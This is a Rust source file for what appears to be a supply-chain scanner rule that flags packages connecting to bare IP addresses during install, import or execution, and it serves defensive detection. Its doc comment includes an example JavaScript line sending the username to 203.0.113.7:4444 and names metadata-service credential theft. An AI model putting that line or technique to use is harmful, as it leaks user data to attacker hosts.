use std::collections::BTreeSet;

use ossprey_model::{Category, Finding, Severity};

use super::events::{behaviour_finding, egress, is_ip, is_local_address, phases};
use super::{BehaviourInput, BehaviourRule, behaviour_rule};

/// ## What it does
/// Reports connections and datagrams the package sent to a bare IP address — one no
/// DNS query of the run resolved (the sinkhole hands every name its own address, so a
/// destination without a name was typed in as a number). Loopback and the sandbox's
/// DNS resolver do not count. The cloud metadata address `169.254.169.254` is named
/// in the message: asking it for credentials is a known theft technique.
///
/// ## Why is this bad?
/// Real services have names. A bare IP is what a reverse-shell listener or a
/// throwaway command-and-control server looks like, and it avoids the DNS logs that
/// defenders watch. At install or import time it weighs high; while running the
/// package's exports (execute phase), medium.
///
/// ## Example
/// ```javascript
/// const s = net.connect(4444, "203.0.113.7", () => s.end(os.userInfo().username));
/// ```
#[derive(Debug)]
pub struct RawIpConnect;

behaviour_rule!(
    RawIpConnect,
    "DYN-RAW-IP-CONNECT",
    Category::NETWORK,
    "a connection to a bare IP address no DNS name led to"
);

impl BehaviourRule for RawIpConnect {
    fn check_behaviour(&self, input: &BehaviourInput<'_>, out: &mut Vec<Finding>) {
        for (key, phase) in phases(input.dynamic) {
            let mut seen = BTreeSet::new();
            for d in egress(phase, input.ecosystem()) {
                if !d.raw_ip
                    || !is_ip(&d.host)
                    || is_local_address(&d.host)
                    || !seen.insert((d.host.clone(), d.port))
                {
                    continue;
                }
                let severity = if key == "execute" {
                    Severity::Medium
                } else {
                    Severity::High
                };
                let metadata = if d.host == "169.254.169.254" {
                    " (the cloud metadata service)"
                } else {
                    ""
                };
                let port = d.port.map(|p| format!(":{p}")).unwrap_or_default();
                out.push(behaviour_finding(
                    self,
                    severity,
                    format!(
                        "{key} phase connected to the bare IP {}{port}{metadata}",
                        d.host
                    ),
                    key,
                    d.kind,
                    d.event,
                    &d.summary,
                ));
            }
        }
    }
}
